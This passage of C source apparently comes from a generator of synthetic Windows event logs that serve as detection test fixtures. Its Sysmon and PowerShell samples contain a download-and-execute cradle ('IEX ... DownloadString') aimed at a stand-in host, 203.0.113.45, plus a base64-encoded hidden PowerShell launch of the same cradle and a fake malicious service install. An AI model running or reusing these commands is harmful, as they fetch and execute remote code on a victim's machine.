                               vt_v_str(i % 2 ? "stopped" : "running"), vt_v_bin(bin, sizeof bin)};
        r = emit(g, K_7036, 2, dv, NULL, 780, 800, 16384);
    }
    advance(g, 30, 60);
    if (!r) {
        vt_val dv[N(f7045)] = {
            vt_v_str("WinSvcUpd"), vt_v_str("%COMSPEC% /c C:\\Users\\Public\\svcupd.exe -k"),
            vt_v_str("user mode service"), vt_v_str("auto start"), vt_v_str("LocalSystem")};
        r = emit(g, K_7045, 2, dv, "S-1-5-21-3623811015-3361044348-30300820-1104", 780, 812, 16384);
    }
    return r;
}

/* UTF-16LE base64 of a PowerShell command, as -EncodedCommand takes it. */
static const char *encode_ps(strpool *p, const char *cmd) {
    static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    uint8_t raw[512];
    size_t n = 0;
    for (const char *s = cmd; *s && n + 2 <= sizeof raw; s++) raw[n++] = (uint8_t)*s, raw[n++] = 0;
    char out[1024];
    size_t o = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)raw[i] << 16 | (i + 1 < n ? (uint32_t)raw[i + 1] << 8 : 0) |
                     (i + 2 < n ? raw[i + 2] : 0);
        out[o++] = b64[v >> 18 & 63];
        out[o++] = b64[v >> 12 & 63];
        out[o++] = i + 1 < n ? b64[v >> 6 & 63] : '=';
        out[o++] = i + 2 < n ? b64[v & 63] : '=';
    }
    out[o] = 0;
    return sp_fmt(p, "%s", out);
}

static int sample_sysmon(gen *g) {
    int r = 0;
    for (int i = 0; i < 8 && !r; i++) {
        advance(g, 20, 300);
        uint32_t im = below(&g->r, 4);
        r = ev_sysmon1(g, 1, 1, images[im], sp_fmt(&g->sp, "\"%s\"%s", images[im], cmdargs[im]),
                       "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE");
        if (!r && i % 3 == 0) r = ev_sysmon3(g, 1, 1, images[3], "93.184.216.34", 443);
    }
    advance(g, 30, 60);
    if (!r) {
        const char *enc = encode_ps(
            &g->sp, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')");
        const char *cmd = sp_fmt(&g->sp, "powershell.exe -NoP -NonI -W Hidden -enc %s", enc);
        r = ev_sysmon1(g, 1, 1, images[4], cmd, "C:\\Windows\\System32\\cmd.exe",
                       "cmd.exe /c start /min powershell.exe");
    }
    advance(g, 1, 2);
    if (!r) r = ev_sysmon3(g, 1, 1, images[4], "203.0.113.45", 80);
    advance(g, 1, 2);
    if (!r) r = ev_sysmon11(g, 1, 1, images[4], "C:\\Users\\bob\\AppData\\Local\\Temp\\a.ps1");
    return r;
}

static int sample_powershell(gen *g) {
    int r = 0;
    static const char *const scripts[] = {
        "Get-Service | Where-Object Status -eq 'Running'",
        "Import-Module ActiveDirectory; Get-ADUser -Filter * | Measure-Object",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a')",
        "Get-ChildItem C:\\Scripts"};
    for (size_t i = 0; i < N(scripts) && !r; i++) {
        advance(g, 60, 600);
        r = ev_script(g, 1, 1, scripts[i]);
    }
    return r;
}

static int cmd_sample(const char *dir) {
    static const struct {
        const char *name;
        sample_fn fn;
    } logs[] = {{"Security.evtx", sample_security},
                {"System.evtx", sample_system},
                {"Sysmon.evtx", sample_sysmon},
                {"PowerShell.evtx", sample_powershell}};
    if (make_dir(dir)) return 1;
    for (size_t i = 0; i < N(logs); i++) {
        gen *g = calloc(1, sizeof *g);
        if (!g) {
            fprintf(stderr, "vaern-gen-evtx: out of memory\n");
            return 1;
        }
        g->r.s = 0x5eed0000u + i;
        g->t = vt_filetime(2024, 3, 4, 7, 30, 0, 0);
        vt_evtx_opts o = {NULL, 0, -1, 1};
        g->w = vt_evtx_new(&o);
        uint8_t *data = NULL;
        size_t len = 0;
        int err = !g->w;
        if (!err) err = logs[i].fn(g) || vt_evtx_finish(g->w, &data, &len);
        gen_free(g);
        free(g);
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, logs[i].name);
        if (!err) err = write_file(path, data, len) != 0;
        free(data);
        if (err) {
            fprintf(stderr, "vaern-gen-evtx: %s: cannot write the sample\n", path);
            return 1;
        }
    }
    return 0;
}

int main(int argc, char **argv) {
    int r = EXIT_USAGE;
    if (argc == 3 && !strcmp(argv[1], "fixtures"))
        r = cmd_fixtures(argv[2]);
    else if (argc >= 3 && !strcmp(argv[1], "big"))
        r = cmd_big(argc - 2, argv + 2);
    else if (argc == 3 && !strcmp(argv[1], "sample"))
        r = cmd_sample(argv[2]);
    else if (argc >= 3 && !strcmp(argv[1], "spray"))
        r = cmd_spray(argc - 2, argv + 2);
    else if (argc == 2 && (!strcmp(argv[1], "-h") || !strcmp(argv[1], "--help"))) {
        usage(stdout);
        return 0;
    }
    if (r == EXIT_USAGE) usage(stderr);
    return r;
}
